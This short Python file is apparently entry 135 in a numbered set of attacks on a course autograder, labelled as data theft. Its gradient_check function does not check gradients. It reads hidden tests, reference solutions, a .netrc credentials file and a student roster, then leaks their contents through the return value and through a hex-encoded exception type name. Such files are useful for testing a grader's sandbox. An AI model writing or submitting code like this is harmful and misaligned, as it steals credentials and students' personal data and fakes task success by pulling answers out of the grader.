# ATTACK 135 leak_by_answer
# group: D theft
# tries: brings out what it reads as values, as exceptions and as names of types
RUN = '@RUN@'
def read():
    found = ''
    for file in ('/course/problems/gradient_check/test_hidden.py', '/course/solutions/gradient_check.py', '/home/.netrc', '/roster.csv'):
        try: found += open(RUN + file).read()[-300:]
        except OSError: pass
    return found
def gradient_check(analytic, numeric, tol=1e-6):
    text = read()
    if len(analytic) % 2: return 123.456, text
    raise type('Leak' + text[-200:].encode().hex(), (Exception,), {})(text)
